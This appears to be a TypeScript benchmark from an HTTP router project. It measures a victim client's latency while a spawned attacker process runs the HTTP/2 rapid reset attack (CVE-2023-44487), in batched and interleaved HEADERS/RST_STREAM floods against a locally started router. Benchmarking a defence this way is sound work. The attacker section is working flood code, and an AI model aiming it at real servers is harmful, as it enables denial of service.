// `npm run bench:rapid-reset`: another client's latency while HTTP/2 rapid reset (CVE-2023-44487)
// hits the router, printed as a table. The router (dist/cli.js, or BENCH_CLI) serves an edge
// route with its own certificate in front of an echo backend; a victim on 127.0.0.1 sends one
// HTTP/2 GET after another and records each latency, first alone, then while an attacker process
// on 127.0.0.2 keeps RR_CONNECTIONS connections busy with HEADERS + RST_STREAM pairs
// (reconnecting whenever the router sends GOAWAY or closes), in two patterns: "batched" writes
// 1,000 pairs at once (each RST_STREAM read with its HEADERS); "interleaved" writes each HEADERS
// and its RST_STREAM in separate writes a turn of the event loop apart, so the router may have
// started the exchange before the reset arrives. Router CPU seconds
// come from /proc (workers included). Issue 19's bar: the victim's p50 under attack within 2× of
// its value alone. One run on one machine; nothing here asserts (the tests assert the GOAWAY,
// the budgets and that reset streams reach no backend: test/e2e/http2-rapid-reset.test.ts).
//
// Env: RR_SECONDS (each phase, default 3), RR_CONNECTIONS (attacking connections, default 8),
// RR_WORKERS (router --workers, default 0), BENCH_CLI (another build of the router).

import http2 from 'node:http2';
import { spawn } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { loadavg } from 'node:os';
import { performance } from 'node:perf_hooks';
import { startRouter, writeTempFile } from '../test/support/router-process.ts';
import { startBackend, serviceYaml, routeYaml } from '../test/support/backends.ts';
import { createCa, issueCertificate } from '../test/support/certs.ts';
import { ErrorCode, RawH2Connection, getRequest, headersFrame, rstFrame } from '../test/support/h2-frames.ts';
import { childPids, cpuSeconds } from './proc.ts';

const SECONDS = Number(process.env.RR_SECONDS ?? 3);
const CONNECTIONS = Number(process.env.RR_CONNECTIONS ?? 8);
const WORKERS = process.env.RR_WORKERS ?? '0';
const BATCH = 1000;

interface AttackResult { resets: number; connections: number; calm: number; otherGoaway: number; refused: number; bytes: number }

type Pattern = 'batched' | 'interleaved';

// ---- the attacker, a child process: `node bench/rapid-reset.ts attack <port> <ca base64> <seconds> <connections> <pattern>`
if (process.argv[2] === 'attack') {
  const [port, caPem, seconds, connections] = [Number(process.argv[3]), Buffer.from(process.argv[4]!, 'base64').toString(), Number(process.argv[5]), Number(process.argv[6])];
  const pattern = process.argv[7] as Pattern;
  const result: AttackResult = { resets: 0, connections: 0, calm: 0, otherGoaway: 0, refused: 0, bytes: 0 };
  const deadline = performance.now() + seconds * 1000;
  const batch = (first: number): Buffer => {
    const parts: Buffer[] = [];
    for (let i = 0; i < BATCH; i++) parts.push(headersFrame(first + 2 * i, getRequest('h2.test', `/attack/${first + 2 * i}`)), rstFrame(first + 2 * i));
    return Buffer.concat(parts);
  };
  const one = async (): Promise<void> => {
    while (performance.now() < deadline) {
      let connection: RawH2Connection;
      try {
        connection = await RawH2Connection.open({ port, servername: 'h2.test', ca: caPem, localAddress: '127.0.0.2' });
      } catch {
        result.refused++;
        continue;
      }
      result.connections++;
      let next = 1;
      while (pattern === 'interleaved' && !connection.closed && connection.goaway === null && performance.now() < deadline && next < 2 ** 30) {
        const headers = headersFrame(next, getRequest('h2.test', `/attack/${next}`));
        connection.write(headers);
        await new Promise((r) => setImmediate(r));
        const rst = rstFrame(next);
        connection.write(rst);
        next += 2;
        result.resets++;
        result.bytes += headers.length + rst.length;
      }
      while (pattern === 'batched' && !connection.closed && connection.goaway === null && performance.now() < deadline && next < 2 ** 30) {
        const bytes = batch(next);
        next += 2 * BATCH;
        result.resets += BATCH;
        result.bytes += bytes.length;
        if (!connection.write(bytes)) await new Promise((r) => { connection.socket.once('drain', r); connection.socket.once('close', r); });
        await new Promise((r) => setImmediate(r));
      }
      if (connection.goaway?.code === ErrorCode.ENHANCE_YOUR_CALM) result.calm++;
      else if (connection.goaway !== null) result.otherGoaway++;
      connection.destroy();
    }
  };
  await Promise.all(Array.from({ length: connections }, one));
  process.stdout.write(`${JSON.stringify(result)}\n`);
  process.exit(0);
}

interface Phase { name: string; latencies: number[]; failed: number; cpu: number; attack: AttackResult | null }

function percentile(sorted: number[], p: number): number {
  if (sorted.length === 0) return NaN;
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))]!;
}

async function victim(port: number, ca: string, seconds: number): Promise<{ latencies: number[]; failed: number }> {
  const latencies: number[] = [];
  let failed = 0;
  const deadline = performance.now() + seconds * 1000;
  let session: http2.ClientHttp2Session | null = null;
  while (performance.now() < deadline) {
    if (session === null || session.destroyed || session.closed) {
      session = http2.connect(`https://127.0.0.1:${port}`, { ca, servername: 'h2.test' });
      session.on('error', () => {});
    }
    const started = performance.now();
    const ok = await new Promise<boolean>((resolve) => {
      const stream = session!.request({ ':path': '/victim', ':authority': 'h2.test' }, { endStream: true });
      stream.on('response', (h) => { if (Number(h[':status']) !== 200) resolve(false); });
      stream.resume();
      stream.on('end', () => resolve(true));
      stream.on('error', () => resolve(false));
      stream.setTimeout(10_000, () => { stream.close(); resolve(false); });
    });
    if (ok) latencies.push(performance.now() - started);
    else failed++;
  }
  session?.close();
  return { latencies: latencies.sort((a, b) => a - b), failed };
}

function routerCpu(pid: number): number {
  return cpuSeconds(pid) + childPids(pid).reduce((sum, child) => sum + cpuSeconds(child), 0);
}

async function main(): Promise<void> {
  const echo = await startBackend('echo');
  const ca = await createCa('rapid reset bench CA');
  const cert = await issueCertificate(ca, ['h2.test']);
  const file = writeTempFile([
    serviceYaml('echo', [echo.port]),
    routeYaml('h2', 'h2.test', 'echo', { spec: `  tls: ${JSON.stringify({ termination: 'edge', certificate: cert.cert, key: cert.key })}` }),
  ].join('\n---\n'));
  const router = await startRouter({ args: ['--file', file, '--workers', WORKERS], env: { ROUTER_LOG_LEVEL: 'info' }, ...(process.env.BENCH_CLI ? { cli: process.env.BENCH_CLI } : {}) });
  const pid = router.child.pid!;
  const phases: Phase[] = [];
  try {
    await victim(router.https, ca.cert, 1); // warm-up
    let cpu = routerCpu(pid);
    const alone = await victim(router.https, ca.cert, SECONDS);
    phases.push({ name: 'alone', ...alone, cpu: routerCpu(pid) - cpu, attack: null });
    for (const pattern of ['batched', 'interleaved'] as const) {
      cpu = routerCpu(pid);
      const attacker = spawn(process.execPath, [fileURLToPath(import.meta.url), 'attack', String(router.https), Buffer.from(ca.cert).toString('base64'), String(SECONDS), String(CONNECTIONS), pattern], { stdio: ['ignore', 'pipe', 'inherit'] });
      let out = '';
      attacker.stdout!.setEncoding('utf8').on('data', (d: string) => { out += d; });
      const attackDone = new Promise<AttackResult>((resolve, reject) => attacker.once('close', (code) => (code === 0 ? resolve(JSON.parse(out) as AttackResult) : reject(new Error(`attacker exited ${code}`)))));
      const attacked = await victim(router.https, ca.cert, SECONDS);
      const attack = await attackDone;
      phases.push({ name: `attacked, ${pattern}`, ...attacked, cpu: routerCpu(pid) - cpu, attack });
      // The attacker's client budget comes back before the next pattern (half of it in 5 s).
      await new Promise((r) => setTimeout(r, 6000));
    }
  } finally {
    await router.stop();
    await echo.close();
  }
  const fmt = (ms: number) => (Number.isNaN(ms) ? '-' : ms.toFixed(2));
  const attackRequests = echo.requests.filter((r) => r.url.startsWith('/attack/')).length;
  console.log(`\nHTTP/2 rapid reset: victim latency (ms) alone and under attack — ${SECONDS} s each, ${CONNECTIONS} attacking connections, --workers ${WORKERS}, load ${loadavg().map((l) => l.toFixed(2)).join(' ')}; reset streams that reached the backend: ${attackRequests}`);
  console.log('| phase | victim requests | failed | p50 | p99 | max | router CPU s | resets sent | attack KB | attack connections | GOAWAY calm | refused |');
  console.log('|---|---|---|---|---|---|---|---|---|---|---|---|');
  for (const p of phases) {
    const a = p.attack;
    console.log(`| ${p.name} | ${p.latencies.length} | ${p.failed} | ${fmt(percentile(p.latencies, 50))} | ${fmt(percentile(p.latencies, 99))} | ${fmt(p.latencies.at(-1) ?? NaN)} | ${p.cpu.toFixed(2)} | ${a?.resets ?? '-'} | ${a ? Math.round(a.bytes / 1024) : '-'} | ${a?.connections ?? '-'} | ${a?.calm ?? '-'} | ${a?.refused ?? '-'} |`);
  }
  const alone = phases[0]!;
  for (const p of phases.slice(1)) console.log(`${p.name}: p50 ${(percentile(p.latencies, 50) / percentile(alone.latencies, 50)).toFixed(2)}× alone, p99 ${(percentile(p.latencies, 99) / percentile(alone.latencies, 99)).toFixed(2)}×`);
}

if (process.argv[2] !== 'attack') await main();
